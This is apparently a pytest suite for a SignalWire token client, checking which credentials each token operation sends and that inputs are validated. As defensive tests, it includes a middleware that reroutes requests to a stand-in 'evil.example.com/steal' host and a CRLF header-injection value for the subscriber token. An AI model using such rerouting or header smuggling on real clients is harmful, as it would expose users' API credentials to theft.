"""Guest, embed and invite tokens, and the credentials each operation takes, read off the wire: the project's Basic
credentials for every operation but two, none at all for an embed token (``security: [{}]``), and the inviting
subscriber's SAT as Bearer for an invite (``SignalWireBearerAuth``), never the project's credentials."""

from __future__ import annotations

import base64
import uuid
import warnings
from datetime import datetime, timedelta, timezone
from typing import Any

import aiohttp
import attrs
import pytest
from yarl import URL

from signalwire_tokens import (
    AuthenticationError,
    EmbedToken,
    GuestToken,
    InvalidRequestError,
    InviteToken,
    JsonBody,
    PermissionDeniedError,
    Request,
    Response,
    Security,
    SignalWireClient,
    UnprocessableEntityError,
)
from signalwire_tokens.testing import FakeSignalWire

from .conftest import API_TOKEN, PROJECT_ID, assert_request_matches_spec, assert_response_matches_spec
from .support import Answers, RecordingTransport

BASIC = "Basic " + base64.b64encode(f"{PROJECT_ID}:{API_TOKEN}".encode()).decode()


async def test_each_operation_sends_the_credentials_its_spec_names_on_the_wire(each_fake: FakeSignalWire) -> None:
    """Read off the wire: through the loopback server and through the in-memory transport alike."""
    fake = each_fake
    address = fake.fabric.add_address()
    answers = Answers()
    async with fake.client(attempt_middlewares=[answers]) as client:
        sat = await client.fabric.subscriber_tokens.create("alice@example.com")
        guest = await client.fabric.guest_tokens.create([address])
        embed = await client.fabric.embed_tokens.create(fake.fabric.add_click_to_call())
        invite = await client.fabric.invite_tokens.create(address_id=address, subscriber_token=sat.token)
    headers = {r.operation: r.headers.get("Authorization") for r in fake.requests}
    assert headers == {
        "fabric.subscriber_tokens.create": BASIC,
        "fabric.guest_tokens.create": BASIC,
        "fabric.embed_tokens.create": None,
        "fabric.invite_tokens.create": f"Bearer {sat.token}",
    }
    assert isinstance(guest, GuestToken) and isinstance(embed, EmbedToken) and isinstance(invite, InviteToken)
    for recorded, response in zip(fake.requests, answers.responses, strict=True):
        assert_request_matches_spec(recorded)
        assert_response_matches_spec(recorded, response.status, response.body)


async def test_an_embed_request_carries_no_authorization_even_when_a_middleware_adds_one(fake: FakeSignalWire) -> None:
    async def add_header(request: Request, call_next: Any) -> Response:
        response: Response = await call_next(request.with_header("Authorization", "Basic c2VjcmV0"))
        return response

    async with fake.client(middlewares=[add_header]) as client:
        await client.fabric.embed_tokens.create(fake.fabric.add_click_to_call())
    assert "Authorization" not in fake.requests[0].headers


def session_with_credentials(kind: str) -> aiohttp.ClientSession:
    with warnings.catch_warnings():  # aiohttp 3.14 deprecates auth= and BasicAuth; sessions made with them still exist
        warnings.simplefilter("ignore", DeprecationWarning)
        if kind == "auth":
            return aiohttp.ClientSession(auth=aiohttp.BasicAuth("someone", "else"))
        return aiohttp.ClientSession(headers={"Authorization": "Bearer someone-elses"})


@pytest.mark.parametrize("kind", ["auth", "header"])
async def test_a_session_with_credentials_of_its_own_is_refused(kind: str) -> None:
    # aiohttp would add them to every request, the embed token's too, which must go without any.
    async with session_with_credentials(kind) as session:
        with pytest.raises(InvalidRequestError) as caught:
            SignalWireClient("example", PROJECT_ID, API_TOKEN, session=session)
    assert caught.value.field == "session" and "else" not in str(caught.value)


async def test_credentials_of_every_kind_never_leave_the_clients_origin() -> None:
    async def reroute(request: Request, call_next: Any) -> Response:
        response: Response = await call_next(attrs.evolve(request, url=URL("https://evil.example.com/steal")))
        return response

    transport = RecordingTransport(body=b'{"token": "t"}')
    async with SignalWireClient("example", PROJECT_ID, API_TOKEN, transport=transport, middlewares=[reroute]) as client:
        for call in (
            client.fabric.embed_tokens.create("c2c_7acc0e5e968706a032983cd80cdca219"),
            client.fabric.invite_tokens.create(address_id=str(uuid.uuid4()), subscriber_token="eyJhbGc.x.y"),
        ):
            with pytest.raises(InvalidRequestError, match="refusing to send credentials") as info:
                await call
            assert info.value.field == "url"
    assert transport.requests == [], "nothing was sent"


async def test_an_invite_needs_a_valid_subscriber_token_and_never_takes_the_projects(fake: FakeSignalWire) -> None:
    address = fake.fabric.add_address()
    async with fake.client() as client:
        guest = await client.fabric.guest_tokens.create([address])
        for token in (guest.token, "eyJhbGciOiJkaXIifQ..bm90.YS10b2tlbg.eA"):
            with pytest.raises(AuthenticationError):
                await client.fabric.invite_tokens.create(address_id=address, subscriber_token=token)
        sat = await client.fabric.subscriber_tokens.create("bob")
        now = fake.fabric.clock()
        fake.fabric.clock = lambda: now + 2 * 3600 + 1
        with pytest.raises(AuthenticationError):
            await client.fabric.invite_tokens.create(address_id=address, subscriber_token=sat.token)
    assert all(r.headers["Authorization"].startswith("Bearer ") for r in fake.requests if "invite" in r.operation)


async def test_the_project_credentials_are_refused_by_the_invite_operation(fake: FakeSignalWire) -> None:
    """``client.send`` defaults to the project's credentials: the invite operation does not take them."""
    body = JsonBody({"address_id": fake.fabric.add_address()})
    async with fake.client() as client:
        with pytest.raises(AuthenticationError):
            await client.send("POST", client.url("/api/fabric/subscriber/invites"), "invite", body=body)
    assert fake.requests[0].headers["Authorization"] == BASIC


async def test_an_invite_is_sent_as_documented(fake: FakeSignalWire) -> None:
    address = fake.fabric.add_address()
    expires_at = datetime(2031, 6, 1, tzinfo=timezone.utc)
    async with fake.client() as client:
        sat = await client.fabric.subscriber_tokens.create("carol")
        invite = await client.fabric.invite_tokens.create(
            address_id=address, subscriber_token=sat.token, expires_at=expires_at
        )
        default = await client.fabric.invite_tokens.create(address_id=address, subscriber_token=sat.token)
    assert fake.requests[1].json() == {"address_id": address, "expires_at": int(expires_at.timestamp())}
    assert fake.requests[2].json() == {"address_id": address}
    assert invite.expires_at == expires_at and invite.token not in repr(invite)
    assert default.expires_at > datetime.now(timezone.utc) + timedelta(minutes=119)
    assert fake.fabric.minted["invite"] == 2 and fake.fabric.token(invite.token)["expires"] == expires_at.timestamp()


@pytest.mark.parametrize(
    ("arguments", "field"),
    [
        ({"address_id": "nope"}, "address_id"),
        ({"subscriber_token": ""}, "subscriber_token"),
        ({"subscriber_token": "a token\r\nX-Evil: 1"}, "subscriber_token"),
        ({"subscriber_token": None}, "subscriber_token"),
        ({"expires_at": datetime(2031, 1, 1)}, "expires_at"),
    ],
)
async def test_invite_input_is_checked_before_sending(
    client: SignalWireClient, fake: FakeSignalWire, arguments: dict[str, Any], field: str
) -> None:
    good = {"address_id": str(uuid.uuid4()), "subscriber_token": "eyJhbGc.x.y"}
    with pytest.raises(InvalidRequestError) as info:
        await client.fabric.invite_tokens.create(**{**good, **arguments})
    assert info.value.field == field
    assert "X-Evil" not in str(info.value)
    assert fake.requests == []


async def test_an_address_of_another_project_is_a_documented_422(fake: FakeSignalWire) -> None:
    answers = Answers()
    async with fake.client(attempt_middlewares=[answers]) as client:
        sat = await client.fabric.subscriber_tokens.create("dan")
        with pytest.raises(UnprocessableEntityError) as guest:
            await client.fabric.guest_tokens.create([str(uuid.uuid4())])
        with pytest.raises(UnprocessableEntityError) as invite:
            await client.fabric.invite_tokens.create(address_id=str(uuid.uuid4()), subscriber_token=sat.token)
    assert (guest.value.code, guest.value.attribute) == ("must_belong_to_project", "allowed_addresses")
    assert invite.value.attribute == "address_id"
    for recorded, response in zip(fake.requests, answers.responses, strict=True):
        assert_response_matches_spec(recorded, response.status, response.body)


async def test_a_guest_token_is_sent_as_documented(client: SignalWireClient, fake: FakeSignalWire) -> None:
    addresses = [fake.fabric.add_address() for _ in range(10)]
    guest = await client.fabric.guest_tokens.create(addresses, 1924992000, region="us-central", ch="us-central")
    assert fake.requests[0].json() == {
        "allowed_addresses": addresses,
        "expire_at": 1924992000,
        "region": "us-central",
        "ch": "us-central",
    }
    assert guest.expires_at == datetime(2031, 1, 1, tzinfo=timezone.utc)
    assert guest.token not in repr(guest) and guest.refresh_token not in repr(guest)
    assert fake.fabric.token(guest.token)["kind"] == "guest"
    assert_request_matches_spec(fake.requests[0])


@pytest.mark.parametrize(
    ("arguments", "field"),
    [
        ({"allowed_addresses": [str(uuid.uuid4()) for _ in range(11)]}, "allowed_addresses"),
        ({"allowed_addresses": ["not-a-uuid"]}, "allowed_addresses"),
        ({"allowed_addresses": str(uuid.uuid4())}, "allowed_addresses"),
        ({"expire_at": datetime(2031, 1, 1)}, "expire_at"),
        ({"region": "eu"}, "region"),
        ({"ch": "eu"}, "ch"),
    ],
)
async def test_guest_input_is_checked_before_sending(
    client: SignalWireClient, fake: FakeSignalWire, arguments: dict[str, Any], field: str
) -> None:
    with pytest.raises(InvalidRequestError) as info:
        await client.fabric.guest_tokens.create(**{"allowed_addresses": [str(uuid.uuid4())], **arguments})
    assert info.value.field == field
    assert fake.requests == []


async def test_an_embed_token_comes_from_a_click_to_call_token(client: SignalWireClient, fake: FakeSignalWire) -> None:
    c2c = fake.fabric.add_click_to_call()
    embed = await client.fabric.embed_tokens.create(c2c)
    assert fake.requests[0].json() == {"token": c2c} and embed.token not in repr(embed)
    with pytest.raises(PermissionDeniedError):
        await client.fabric.embed_tokens.create("c2c_00000000000000000000000000000000")
    with pytest.raises(InvalidRequestError) as info:
        await client.fabric.embed_tokens.create("")
    assert info.value.field == "c2c_token" and len(fake.requests) == 2


def test_a_bearer_security_holds_its_token_and_never_shows_it() -> None:
    security = Security.bearer_token("eyJsecret-subscriber-token")
    assert "eyJsecret" not in repr(security)
    cases: list[tuple[Any, str | None]] = [("bearer", None), ("basic", "x"), ("digest", None)]
    for scheme, bearer in cases:
        with pytest.raises(ValueError, match="bearer"):
            Security(scheme, bearer)
